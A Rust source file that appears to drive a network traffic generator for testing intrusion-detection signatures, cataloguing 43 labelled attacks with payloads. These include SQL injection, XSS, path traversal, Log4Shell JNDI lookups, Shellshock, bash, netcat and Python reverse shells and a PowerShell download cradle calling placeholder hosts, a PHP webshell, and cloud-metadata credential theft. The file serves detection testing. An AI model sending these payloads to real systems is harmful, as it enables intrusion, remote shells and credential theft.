//! Attacks the generator can inject, one per bundled signature. Each names
//! the signature that must detect it; the ground-truth file records where
//! it was injected.

/// How an attack is put on the wire.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Delivery {
    /// Client -> server request on a TCP port (the payload is the request).
    TcpRequest { port: u16 },
    /// A benign request, then the server answers with the payload.
    TcpResponse { port: u16 },
    /// Several client lines on a TCP port, each in its own segment.
    TcpLines { port: u16 },
    /// UDP datagram to a port.
    Udp { port: u16 },
    /// ICMP echo request with the payload.
    IcmpEcho,
    /// SYNs from one source to `count` ports of one target.
    SynSweep { count: u16 },
    /// SYNs from one source to one port, `count` times.
    SynRepeat { port: u16, count: u16 },
}

#[derive(Debug, Clone, Copy)]
pub struct Attack {
    pub name: &'static str,
    /// The bundled signature that detects it.
    pub sid: u32,
    pub delivery: Delivery,
    /// The payload (for TcpLines: lines separated by `\n`, sent with CRLF).
    pub payload: &'static str,
}

const fn http(name: &'static str, sid: u32, payload: &'static str) -> Attack {
    Attack { name, sid, delivery: Delivery::TcpRequest { port: 80 }, payload }
}

/// The catalog. Payloads are what the tools and exploits actually send
/// (shortened), not strings shaped to the rules.
pub const ATTACKS: &[Attack] = &[
    http("scanner-sqlmap", 1_990_001, "GET /item.php?id=1 HTTP/1.1\r\nHost: shop.example.com\r\nUser-Agent: sqlmap/1.8.3#stable (https://sqlmap.org)\r\nAccept: */*\r\n\r\n"),
    http("scanner-nikto", 1_990_002, "GET /cgi-bin/test-cgi HTTP/1.1\r\nHost: shop.example.com\r\nUser-Agent: Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000003)\r\n\r\n"),
    http("scanner-nmap-nse", 1_990_003, "GET /nmaplowercheck1712345678 HTTP/1.1\r\nHost: 10.0.1.10\r\nUser-Agent: Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)\r\nConnection: close\r\n\r\n"),
    http("scanner-masscan", 1_990_004, "GET / HTTP/1.0\r\nUser-Agent: masscan/1.3 (https://github.com/robertdavidgraham/masscan)\r\nAccept: */*\r\n\r\n"),
    http("scanner-zgrab", 1_990_005, "GET / HTTP/1.1\r\nHost: 10.0.1.10\r\nUser-Agent: Mozilla/5.0 zgrab/0.x\r\nAccept: */*\r\nAccept-Encoding: gzip\r\n\r\n"),
    http("scanner-wpscan", 1_990_006, "GET /wp-login.php HTTP/1.1\r\nHost: blog.example.com\r\nUser-Agent: WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)\r\n\r\n"),
    http("scanner-gobuster", 1_990_007, "GET /backup.zip HTTP/1.1\r\nHost: shop.example.com\r\nUser-Agent: gobuster/3.6\r\nAccept-Encoding: gzip\r\n\r\n"),
    http("scanner-acunetix", 1_990_008, "GET /index.php HTTP/1.1\r\nHost: shop.example.com\r\nAcunetix-Aspect: enabled\r\nUser-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64)\r\n\r\n"),
    Attack { name: "scan-syn-sweep", sid: 1_990_009, delivery: Delivery::SynSweep { count: 40 }, payload: "" },
    Attack { name: "ssh-brute-force", sid: 1_990_010, delivery: Delivery::SynRepeat { port: 22, count: 15 }, payload: "" },
    http("sqli-union-select", 1_990_011, "GET /products?cat=1%20UNION%20ALL%20SELECT%20username,password%20FROM%20users-- HTTP/1.1\r\nHost: shop.example.com\r\nUser-Agent: Mozilla/5.0\r\n\r\n"),
    http("sqli-tautology", 1_990_012, "GET /login?user=admin'%20OR%20'1'='1&pass=x HTTP/1.1\r\nHost: shop.example.com\r\nUser-Agent: Mozilla/5.0\r\n\r\n"),
    http("sqli-time-based", 1_990_013, "GET /item?id=1%20AND%20SLEEP(5) HTTP/1.1\r\nHost: shop.example.com\r\nUser-Agent: Mozilla/5.0\r\n\r\n"),
    http("sqli-information-schema", 1_990_014, "GET /item?id=-1+union+select+table_name+from+information_schema.tables HTTP/1.1\r\nHost: shop.example.com\r\n\r\n"),
    http("sqli-xp-cmdshell", 1_990_015, "POST /report.aspx HTTP/1.1\r\nHost: erp.example.com\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 45\r\n\r\nq=1';EXEC master..xp_cmdshell 'whoami'--&go=1"),
    http("xss-script-tag", 1_990_016, "GET /search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E HTTP/1.1\r\nHost: shop.example.com\r\n\r\n"),
    http("xss-event-handler", 1_990_017, "GET /profile?name=%22%3E%3Cimg%20src=x%20onerror%3Dalert(1)%3E HTTP/1.1\r\nHost: shop.example.com\r\n\r\n"),
    http("path-traversal", 1_990_018, "GET /download?file=..%2f..%2f..%2f..%2fetc%2fshadow HTTP/1.1\r\nHost: files.example.com\r\n\r\n"),
    http("etc-passwd-access", 1_990_019, "GET /view?page=/etc/passwd HTTP/1.1\r\nHost: files.example.com\r\n\r\n"),
    http("windows-win-ini", 1_990_020, "GET /static/..\\..\\..\\windows\\win.ini HTTP/1.1\r\nHost: files.example.com\r\n\r\n"),
    http("log4shell-jndi", 1_990_021, "GET / HTTP/1.1\r\nHost: app.example.com\r\nUser-Agent: ${jndi:ldap://203.0.113.66:1389/Exploit}\r\nX-Api-Version: ${jndi:ldap://203.0.113.66:1389/a}\r\n\r\n"),
    http("log4shell-obfuscated", 1_990_022, "GET / HTTP/1.1\r\nHost: app.example.com\r\nX-Forwarded-For: ${${lower:j}${::-n}di:${lower:l}dap://203.0.113.66/x}\r\n\r\n"),
    http("shellshock", 1_990_023, "GET /cgi-bin/status HTTP/1.1\r\nHost: legacy.example.com\r\nUser-Agent: () { :; }; /bin/bash -c 'cat /etc/hostname'\r\n\r\n"),
    Attack { name: "ftp-cleartext-password", sid: 1_990_024, delivery: Delivery::TcpLines { port: 21 }, payload: "USER deploy\nPASS Winter2024!" },
    Attack { name: "imap-cleartext-login", sid: 1_990_025, delivery: Delivery::TcpLines { port: 143 }, payload: "a001 CAPABILITY\na002 LOGIN alice hunter2" },
    http("http-basic-auth-cleartext", 1_990_026, "GET /admin/ HTTP/1.1\r\nHost: intranet.corp.example\r\nAuthorization: Basic YWRtaW46cGFzc3dvcmQ=\r\n\r\n"),
    http("reverse-shell-bash", 1_990_027, "GET /ping?host=127.0.0.1;bash%20-c%20'bash%20-i%20>%26%20/dev/tcp/203.0.113.9/4444%200>%261' HTTP/1.1\r\nHost: app.example.com\r\n\r\n"),
    Attack { name: "reverse-shell-netcat", sid: 1_990_028, delivery: Delivery::TcpRequest { port: 6379 }, payload: "*3\r\n$4\r\nEVAL\r\n$40\r\nos.execute('nc -e /bin/sh 203.0.113.9 4444')\r\n$1\r\n0\r\n" },
    http("reverse-shell-python", 1_990_029, "POST /api/run HTTP/1.1\r\nHost: app.example.com\r\nContent-Length: 183\r\n\r\ncmd=python3 -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\"203.0.113.9\",4444));os.dup2(s.fileno(),0);subprocess.call([\"/bin/sh\",\"-i\"])'"),
    http("powershell-download-cradle", 1_990_030, "POST /upload.aspx HTTP/1.1\r\nHost: erp.example.com\r\nContent-Length: 101\r\n\r\nc=powershell -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')\""),
    Attack { name: "command-output-root", sid: 1_990_031, delivery: Delivery::TcpResponse { port: 80 }, payload: "HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Length: 39\r\n\r\nuid=0(root) gid=0(root) groups=0(root)\n" },
    http("c2-cobaltstrike-default-uri", 1_990_032, "GET /dpixel HTTP/1.1\r\nAccept: */*\r\nCookie: Gm4tV7NhBD2Mu6qZvA4Du1zE0p9nKGQ8rLd4c1Iy8XAwWlYmC2bJeO4=\r\nUser-Agent: Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 5.1)\r\nHost: 10.0.1.10\r\n\r\n"),
    Attack { name: "cryptominer-stratum", sid: 1_990_033, delivery: Delivery::TcpRequest { port: 3333 }, payload: "{\"id\":1,\"method\":\"mining.subscribe\",\"params\":[\"xmrig/6.21.0\"]}\n" },
    http("c2-empire-staging", 1_990_034, "GET /admin/get.php HTTP/1.1\r\nCookie: session=2AOIjqh9k6bM2rfBOyI5s/qg/Bc=\r\nUser-Agent: Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko\r\nHost: 10.0.1.10\r\n\r\n"),
    http("ssrf-instance-metadata", 1_990_035, "GET /fetch?url=http://169.254.169.254/latest/meta-data/iam/security-credentials/ HTTP/1.1\r\nHost: app.example.com\r\n\r\n"),
    Attack { name: "aws-access-key-leak", sid: 1_990_036, delivery: Delivery::TcpResponse { port: 80 }, payload: "HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Length: 70\r\n\r\naws_access_key_id=AKIAIOSFODNN7EXAMPLE\nregion=us-east-1\nprofile=prod\n\n" },
    Attack { name: "docker-api-exec", sid: 1_990_037, delivery: Delivery::TcpRequest { port: 2375 }, payload: "POST /containers/4fa6e0f0c678/exec HTTP/1.1\r\nHost: 10.0.1.10:2375\r\nContent-Type: application/json\r\nContent-Length: 44\r\n\r\n{\"Cmd\":[\"sh\",\"-c\",\"id\"],\"AttachStdout\":true}" },
    Attack { name: "redis-config-set-dir", sid: 1_990_038, delivery: Delivery::TcpRequest { port: 6379 }, payload: "*4\r\n$6\r\nCONFIG\r\n$3\r\nSET\r\n$3\r\ndir\r\n$16\r\n/var/spool/cron/\r\n" },
    http("spring4shell", 1_990_039, "POST /app/greeting HTTP/1.1\r\nHost: app.example.com\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 85\r\n\r\nclass.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di"),
    http("php-webshell-eval", 1_990_040, "POST /uploads/img.php HTTP/1.1\r\nHost: blog.example.com\r\nContent-Length: 50\r\n\r\nz=eval(base64_decode('c3lzdGVtKCRfR0VUW2NdKTs='));"),
    http("command-injection", 1_990_041, "GET /ping?host=8.8.8.8%3Bcat%20/etc/hostname HTTP/1.1\r\nHost: app.example.com\r\n\r\n"),
    Attack { name: "dns-tunnel-long-label", sid: 1_990_042, delivery: Delivery::Udp { port: 53 }, payload: "dGhpcyBpcyBleGZpbHRyYXRlZCBkYXRhIGluIGEgdmVyeSBsb25nIGxhYmVs.t1.exfil.example.net" },
    Attack { name: "icmp-large-echo", sid: 1_990_043, delivery: Delivery::IcmpEcho, payload: "" },
];

pub fn by_name(name: &str) -> Option<&'static Attack> {
    ATTACKS.iter().find(|a| a.name == name)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn names_and_sids_unique() {
        let mut names: Vec<_> = ATTACKS.iter().map(|a| a.name).collect();
        names.sort();
        names.dedup();
        assert_eq!(names.len(), ATTACKS.len());
        let mut sids: Vec<_> = ATTACKS.iter().map(|a| a.sid).collect();
        sids.sort();
        sids.dedup();
        assert_eq!(sids.len(), ATTACKS.len());
    }

    /// A wrong Content-Length makes parsers disagree on where a message
    /// ends (the rest becomes a bogus next request), which is not what
    /// these captures are about.
    #[test]
    fn content_lengths_are_right() {
        for a in ATTACKS {
            let Some((head, body)) = a.payload.split_once("\r\n\r\n") else { continue };
            let Some(cl) = head.lines().find_map(|l| l.trim_end().strip_prefix("Content-Length: ")) else { continue };
            assert_eq!(cl.parse::<usize>().unwrap(), body.len(), "{}", a.name);
        }
    }
}
